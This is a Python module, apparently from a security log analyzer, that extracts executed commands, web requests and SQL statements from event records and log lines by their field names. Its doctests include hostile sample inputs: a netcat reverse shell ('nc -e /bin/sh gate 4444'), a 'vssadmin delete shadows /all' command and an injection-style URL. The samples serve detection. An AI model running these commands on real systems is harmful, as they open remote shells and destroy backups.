"""What an object, or a line, of no family that is known holds by the names of its members: a command, what was asked for on the web, or of a database.

Applications of one's own write in nobody's form, but they call a command a command and an address an address. Both halves ask here last, when no
form's own reader knows the event, and neither asks of what somebody sent (a body, parameters, headers): the names in that are the sender's. Refuses
to guess: a value under a name that is used for other things as well counts where its shape says so too.
"""
from __future__ import annotations

import json
import re
from functools import lru_cache
from itertools import islice
from typing import Any, Dict, Iterable, Iterator, List, Mapping, NamedTuple, Optional, Tuple

from .bare import COMMAND, EXECUTABLE, NAME_MAX_CHARS, UNIX, WINDOWS, Bare, bare_of
from .names import letters_of, without_port
from .pairs import value_end
from .said import (
    LINE_REACH,
    MESSAGES,
    SAID_MAX,
    certain,
    command_free,
    command_prompted,
    command_said,
    command_told,
    is_asked_for,
    is_begun,
    is_plain,
    is_statement,
    joined,
    request_said,
    request_told,
    statement_in_cells,
    statement_said,
    statement_told,
    value_from,
)
from .strangers import is_repeated
from .weblog import METHODS, WebRequest
from .winevent import halved

#: Part of an act: names of members that hold it, the last ones where they are dotted, with `_` between their words however they spell that. What
#: holds a command and nothing else is firm.
_NAMES = {
    "firm": "command_line cmd_line process_cmdline process_command_line proc_cmd_line proc_title process_title shell_command executed_command raw_command cmd_string cmd_text",
    "loose": "command cmd exec argv args commands arguments cmd_args exec_args executed shell script raw_params command_text spawn_args command_args command_string",
    "typed": "keystrokes in_txt typed",
    "weak": "input cl detail details",
    "number": "event_id",
    "session": "session session_id tty term terminal pty asset",
    "file": "exe executable image exec_path",
    "program": "binary process_path program process_name interpreter",
    "place": "process proc proc_name",
    "target": "url uri request_uri request_url request_path http_url http_uri http_path path raw_path full_url full_path original_url request request_line url_path uri_path "
              "req_url req_uri req_path url_full raw_url raw_uri resource_path target_url page_url uri_stem cs_uri_stem",
    "page": "endpoint resource target http_target request_target route page req u p r",
    "query": "query_string uri_query url_query query q uri_args query_args request_query req_query query_params cs_uri_query qs",
    "method": "method http_method request_method verb http_verb req_method http_request_method meth m",
    "verb": "get post put patch delete head options",
    "status": "status status_code http_status response_code response_status http_code code http_status_code resp_status resp_code res_status res_code st s",
    "agent": "user_agent http_user_agent ua http_ua request_user_agent client_user_agent",
    "client": "ip client_ip remote_addr remote_ip src_ip src source_ip remote_address client_address client x_forwarded_for real_ip caller_ip peer_ip peer_addr "
              "peer_address net_peer_ip client_addr remote ra",
    "people": "author assignee reporter commenter ticket ticket_id ticket_key issue issue_id issue_key",
    "sql": "sql sql_text statement query_text db_statement sql_statement sql_query stmt raw_sql db_query",
    "message": " ".join(MESSAGES),
    "act": "action act event evt event_type event_name event_action operation activity alert_type category type",
}
_PART_OF = {name.replace("_", ""): part for part, names in _NAMES.items() for name in names.split()}
#: How names of members end that hold a command, whatever stands before (`processCmd`, `containerCommand`); not of the program that ran this one.
_ENDINGS = ("commandline", "cmdline", "command", "cmd", "argv")
_OF_PARENTS = re.compile(r"parent|\A(?:p{1,2}|g?a)(?:cmdline|cmd|commandline)\Z")
#: What the records of clouds have that say who did what, as they spell it: the readers of those know what their members mean.
_OF_AUDITS = frozenset("eventname eventsource protopayload objectref useridentity auditid operationname".split())
#: An object without a member that is one of these parts holds neither.
_SIGNS = frozenset(("firm", "loose", "typed", "target", "verb", "sql", "message"))
#: Or without one of these beside what is used for other things as well.
_BESIDE_PAGES, _BESIDE_WEAK = frozenset(("method", "status", "client", "agent")), frozenset(("act", "session"))
#: What these hold was sent, or is of the program that ran this one.
_OTHERS = frozenset("parent parentprocess grandparent initiatingprocess requestparameters responseelements requestobject responseobject requestbody responsebody body payload headers requestheaders params parameters form formdata "
                  "postdata cookies annotations labels input inputs".split())
#: What happened is that somebody asked; an address in what says another act is what that was about.
_OF_REQUESTS = re.compile(r"(?i)request|access|http|web|page|visit|view|hit|api|call|^(?:get|post|put|head|delete|patch|log|info|allow\w*|den\w+|block\w*)$")
_OF_SESSIONS = re.compile(r"(?i)command|cmd|exec|shell|ssh|session|terminal|key|proc|run|input")
#: People wrote the words of these, and of what has a member of the part "people".
_OF_PEOPLE = re.compile(r"(?i)chat|note|comment|mail|search|post(?:ed)?\b|ticket|feedback|review|article|news|wiki|lesson|\bpush|commit|\bform|submi|webhook")
_OF_COMMANDS = re.compile(r"(?i)(?:exec\w*|run|ran|command|cmd|shell|spawn\w*|process[._ ]?(?:start|creat|exec|launch)\w*)\Z")
#: A program by its place, or by how those of Windows end.
_PROGRAM = re.compile(r"(?i)/\S|[a-z]:\\|.{1,200}\.exe\Z")
_MEMBERS_MAX = 400
_ADDRESS = re.compile(r"(?:(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?|[\da-fA-F]{0,4}(?::[\da-fA-F]{0,4}){2,7})\Z")
#: A pair that holds a command, wherever it stands in a line.
_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])([a-z_.-]{0,20}?(?:cmd|command|exec|argv|args|raw_params|proctitle|script|shell)[a-z_-]{0,12})(?:=|: (?=[\"']))(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")


class Held(NamedTuple):
    """A command that was run, a request or a statement in SQL; what stands before another is held beside it, for whoever wrote either could hide the other so. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
    the name of the act beside it."""

    command: Optional[Bare] = None
    request: Optional[WebRequest] = None
    is_firm: bool = False
    statement: str = ""


#: Part of an act: name of the member, its values; an array has several.
Found = Dict[str, Dict[str, List[str]]]


def holds(members: Mapping[str, Any]) -> bool:
    """Whether an object of `members` by their dotted names may hold any of these: to look at the names costs little, to read all the members more."""
    is_sign, queries, packed = _hold(tuple(members))
    return is_sign or any(is_statement(members[name]) for name in queries) or any(members[name].__class__ is str and members[name][:2] == '{"' for name in packed)


@lru_cache(maxsize=1 << 11)
def _hold(names: Tuple[str, ...]) -> Tuple[bool, Tuple[str, ...], Tuple[str, ...]]:
    """Whether they may by their names, and those of which the values show it; kept: events of one kind have the same names."""
    parts = set(map(_part_of, names))
    is_sign = not _SIGNS.isdisjoint(parts) or "page" in parts and not _BESIDE_PAGES.isdisjoint(parts) or "weak" in parts and not _BESIDE_WEAK.isdisjoint(parts)
    return is_sign, tuple(name for name in names if _part_of(name) == "query"), tuple(name for name in names if letters_of(name[-40:].rpartition(".")[2]) in _PACKED)


def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
    """What `members`, dotted names and their values, hold; None where they hold neither.

    >>> held_in([("user", "ann"), ("proc.cmdline", "nc -e /bin/sh gate 4444")]).command.programs
    ('nc',)
    >>> held_in([("url", "/a?id=1%27"), ("ip", "::1")]).request.target, held_in([("url", "/a?id=1%27"), ("user", "ann")])
    ('/a?id=1%27', None)
    >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
    (None, None)
    """
    found: Found = {}
    sent: Dict[str, Any] = {}
    for name, value in islice(members, _MEMBERS_MAX):
        part = _part_of(name)
        if part == _AUDITED:
            return None
        if part == _SENT:
            sent[name.rpartition(".")[2]] = value
        elif part and not (name in sent and sent[name] == value):  # else known without what it was sent in as well
            found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
    if "people" in found:
        found.pop("message", None)
    statement = "\n".join(dict.fromkeys(filter(is_statement, _values(found, "sql")))) or next(filter(is_statement, _values(found, "query")), "")
    command = _command(found)
    if command is None:
        command = _typed_command(found)
        if command is not None and statement:  # the words of a message may be a stranger's
            return Held(command, statement=statement)
    # What products number is no request; a page in it is of a console's.
    request = _request(found) if command is None and "number" not in found and all(map(_OF_REQUESTS.search, _values(found, "act"))) else None
    if command is None and request is None:
        statement = statement or next(filter(None, map(statement_said, _values(found, "message")[:SAID_MAX])), "")
        return Held(statement=statement) if statement else None
    return Held(command, request, "firm" in found or _is_of_run(found))


def packed_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
    """What an object holds that stands as text in one of `members`. Such a text may as well be an event of its own in an envelope: who opens those
    asks here last.

    >>> packed_in([("app", "jobs"), ("data", '{"cmd": "nc -e /bin/sh gate 4444"}')]).command.programs
    ('nc',)
    """
    return next(filter(None, map(held_in, islice(_packed(list(islice(members, _MEMBERS_MAX))), _PACKED_MAX))), None)


def _packed(members: List[Tuple[str, Any]]) -> Iterator[List[Tuple[str, Any]]]:
    """Members of the objects that stand as text in members of which an application made them; what somebody sent it keeps so as well."""
    packed = [member for member in members if member[1].__class__ is str and member[1][:2] == '{"' and member[1][-1:] == "}"]
    if packed and not any(_OF_PEOPLE.search(str(value)) for name, value in members if _part_of(name) == "act"):
        for name, value in packed:
            *steps, last = map(letters_of, name[:400].split("."))
            if last in _PACKED and _OTHERS.isdisjoint(steps) and (last != "payload" or not any(_part_of(other) == "target" for other, _ in members)):
                try:
                    record = json.loads(value)
                except (ValueError, RecursionError):
                    continue
                yield list(islice(_leaves(record, "", 0), _MEMBERS_MAX))


def _leaves(node: Any, path: str, depth: int) -> Iterator[Tuple[str, Any]]:
    if isinstance(node, dict) and depth < _PACKED_DEPTH:
        for name, value in node.items():
            yield from _leaves(value, f"{path}.{name}" if path else name, depth + 1)
    elif isinstance(node, list):
        yield path, [value for value in node if isinstance(value, str)]
    elif node is not None and node != "":
        yield path, node


#: What members are called that hold an object as text; no more of them are read, and no deeper.
_PACKED = frozenset("message msg log event data record payload".split())
_PACKED_MAX, _PACKED_DEPTH = 3, 6


def is_told(name: str, held: Held) -> bool:
    """Whether what `held` is was read from members called like the dotted `name`, and from that alone."""
    return _part_of(name) in (_OF_COMMAND if held.command is not None else _OF_REQUEST if held.request is not None else _OF_STATEMENT)


_OF_STATEMENT, _OF_COMMAND, _OF_REQUEST = ("sql",), ("firm", "loose"), ("target", "verb", "query", "method", "status", "agent", "client")


_AUDITED, _SENT = "audited", "sent"


@lru_cache(maxsize=1 << 12)
def _part_of(name: str) -> str:
    *steps, last = name[:400].split(".")
    if (steps[0] if steps else last).lower() in _OF_AUDITS:
        return _AUDITED
    letters = letters_of(last)
    part = _PART_OF.get(letters, "") or ("loose" if letters.endswith(_ENDINGS) and not _OF_PARENTS.search(letters) else "")
    return _SENT if part and not _OTHERS.isdisjoint(map(letters_of, steps)) else part


def _values(found: Found, part: str) -> List[str]:
    return [value for values in found.get(part, {}).values() for value in values if value]


def _command(found: Found) -> Optional[Bare]:
    """The command that was run; where its program's place stands beside it, that is the program. A process may give itself any name: its file is asked for first."""
    if not found:
        return None
    named = list(filter(_PROGRAM.match, (value for part in ("file", "program", "place") for value in _values(found, part))))
    program = halved(next((name for name in named if "/" in name or "\\" in name), named[0] if named else ""))
    command = _named_command(found)
    if command is not None and any(_are_commands(values) for part in ("firm", "loose") for values in found.get(part, {}).values()):
        command = command._replace(systems=(WINDOWS, UNIX))  # the first tells no other's
    if command is not None:
        return command._replace(programs=(program[:NAME_MAX_CHARS],)) if program else command
    return _of_program(program, found) if program and "loose" in found else None


def _named_command(found: Found) -> Optional[Bare]:
    """The command in a member that is called so."""
    firm = halved(next(filter(None, map(_line_of, found.get("firm", {}).values())), ""))
    if firm:
        bare = bare_of(firm)
        # What was run begins with no prompt: a place and a sign are a program and what it writes to.
        return bare if bare is not None and bare.kind == COMMAND and (bare.value == firm or firm[1:3] != ":\\") else _of_unknown(firm)
    loose = [halved(_line_of(values)) for values in found.get("loose", {}).values()]
    programs = [word for word in (*_values(found, "file"), *_values(found, "program"), *loose) if " " not in word][:SAID_MAX]
    behind = (f"{program} {text}" for text in loose if " " in text for program in programs)
    return next(filter(None, map(certain, (*loose, *behind))), None)


def _line_of(values: List[str]) -> str:
    """The command of which `values` are the words; where one of the first is a whole command, each of them on a line of its own: a member may come twice.

    >>> _line_of(["sh", "-c", "nc -e sh gate"]), _line_of(["nc -e sh gate", "ls"]), _line_of(["ls", "nc -e sh gate"])
    ('sh -c "nc -e sh gate"', 'nc -e sh gate\\nls', 'ls\\nnc -e sh gate')
    """
    return "\n".join(values) if _are_commands(values) else joined(values)


def _are_commands(values: List[str]) -> bool:
    return len(values) > 1 and any(map(certain, values[:2]))


def _typed_command(found: Found) -> Optional[Bare]:
    """The command that somebody typed, or that an application says it ran. Its program is another than the one that wrote so."""
    acts = _values(found, "act")
    command: Optional[Bare] = None
    if "typed" in found or "weak" in found:
        weak = _values(found, "weak") if (acts or "session" in found) and all(map(_OF_SESSIONS.search, acts)) else []
        command = next((bare for bare in map(certain, map(str.strip, weak)) if bare is not None and is_plain(bare)), None)
        command = next(filter(None, map(certain, map(str.strip, _values(found, "typed")))), command)
    if command is None and not any(map(_OF_PEOPLE.search, acts)):
        command = next(filter(None, map(command_said, _values(found, "message")[:SAID_MAX])), None)
    return command


def _of_program(program: str, found: Found) -> Optional[Bare]:
    """What the program at a place was run with, whatever it looks like; a word alone may be what the kernel calls it, unless the act is that it was run."""
    base = re.split(r"[\\/]", program)[-1]
    for name, values in found["loose"].items():
        text = halved(_line_of(values))
        if text and not text.startswith((base, program)) and letters_of(name.rpartition(".")[2]).endswith(("args", "arguments")):
            text = f"{base} {text}"
        if " " in text or text and _is_of_run(found):
            return _of_unknown(text)
    return None


def _is_of_run(found: Found) -> bool:
    return any(map(_OF_COMMANDS.match, _values(found, "act")))


def _of_unknown(text: str) -> Bare:
    """A command that begins with no program of which the name or the place is known."""
    program = text[1:].partition('"')[0] if text[0] == '"' else text.split(None, 1)[0]
    systems = (WINDOWS,) if "\\" in program or program.lower().endswith(EXECUTABLE) else (UNIX,) if "/" in program else (WINDOWS, UNIX)
    return Bare(COMMAND, text, (program[:NAME_MAX_CHARS],), systems)


def _request(found: Found) -> Optional[WebRequest]:
    method = next((word.upper() for word in _values(found, "method") if word.upper() in METHODS), "")
    status = next((word for word in _values(found, "status") if len(word) == 3 and word.isdecimal() and "100" <= word < "600"), "")
    agent = next(iter(_values(found, "agent")), "")
    client = next((without_port(word) for word in _values(found, "client") if _ADDRESS.match(word)), "")
    target = next((word for word in _values(found, "target") if is_asked_for(word)), "")
    if not target:
        method, target = next(((name.upper(), word) for name, words in found.get("verb", {}).items() for word in words if is_asked_for(word)), (method, ""))
    if not target and method:
        target = next((word for word in _values(found, "page") if is_asked_for(word)), "")
    if target and (method or status or agent or client):
        query = next((word for word in (*_values(found, "query"), *_values(found, "loose")) if "=" in word and " " not in word), "")
        return WebRequest(method, f"{target}?{query.lstrip('?')}" if query and "?" not in target else target, status, agent=agent, client=client)
    lines = (word for word in _values(found, "page") if word.partition(" ")[0] in METHODS)
    for text in (*_values(found, "message"), *_values(found, "target"), *lines)[:SAID_MAX]:
        said = request_said(text)
        if said is not None:
            return said._replace(agent=agent, client=client or said.client, status=said.status or status)
    return None


def held_in_line(text: str) -> Optional[Held]:
    """The same of a line: a command in one of its pairs, or what else it tells. A line that repeats what a stranger gave tells neither.

    >>> held_in_line('pc7 exec user=ann cmd="vssadmin delete shadows /all"').command.systems
    ('windows',)
    """
    if is_repeated(text):
        return None
    by_sign: Dict[str, Found] = {"=": {}, ":": {}}
    head = text[:LINE_REACH]
    for pair in islice(_COMMAND_PAIR.finditer(head) if "=" in head or ': "' in head or ": '" in head else (), SAID_MAX):
        part, found = _part_of(pair[1]), by_sign[text[pair.end(1)]]
        if part and text.count('"', 0, pair.start()) % 2 == 0 and part not in found:
            start = pair.start(4)
            plain = value_from(text, start) if text[start:start + 1] == "[" else text[start:value_end(pair[1], text, start, pair.end(4))]
            found[part] = {pair[1]: [pair[2] or pair[3] or plain]}
    prompted = command_prompted(text)
    command = _command(by_sign["="]) or (prompted[1] if prompted is not None and is_begun(text, prompted[0]) else None)
    if command is not None:
        return Held(command)
    ran, asked, put = command_told(text) or command_free(text), request_told(text), statement_told(text) or statement_in_cells(text)
    # A command in a request is a part of it. Words that tell a command may be a stranger's as well, and what the application itself wrote stands behind them.
    if ran is not None and asked is not None and asked[0] <= ran[0]:
        ran = None
    statement = put[1] if put is not None and (asked is None or put[0] <= asked[0]) else ""
    if put is not None and statement:
        ran = None if ran is None or _is_in_text(text, put[0], ran[0]) else ran
        asked = None if asked is None or _is_in_text(text, put[0], asked[0]) else asked
    if ran is not None or asked is not None or statement:
        return Held(ran[1] if ran is not None else None, asked[1] if asked is not None else None, statement=statement)
    command = _command(by_sign[":"]) or (prompted[1] if prompted is not None else None)
    return Held(command) if command is not None else None


def ran_before_pairs(text: str) -> Optional[Held]:
    """The command that a line tells before the first of its pairs, and the request behind it: whoever wrote one could hide it behind pairs of his own.

    >>> ran_before_pairs("command queued for ann: nc -e /bin/sh gate a=1 b=2 c=3").command.programs, ran_before_pairs("a=1 b=2 command: nc -e /bin/sh gate")
    (('nc',), None)
    """
    first = text.find("=")
    ran = command_told(text) if first > 0 else None
    if ran is None or ran[0] > first or is_repeated(text):
        return None
    asked = request_told(text)
    return Held(ran[1], asked[1] if asked is not None and asked[0] > ran[0] else None)


def _is_in_text(text: str, start: int, place: int) -> bool:
    """Whether `place` stands in a text of the statement that begins at `start`."""
    return place > start and text.count("'", start, place) % 2 == 1
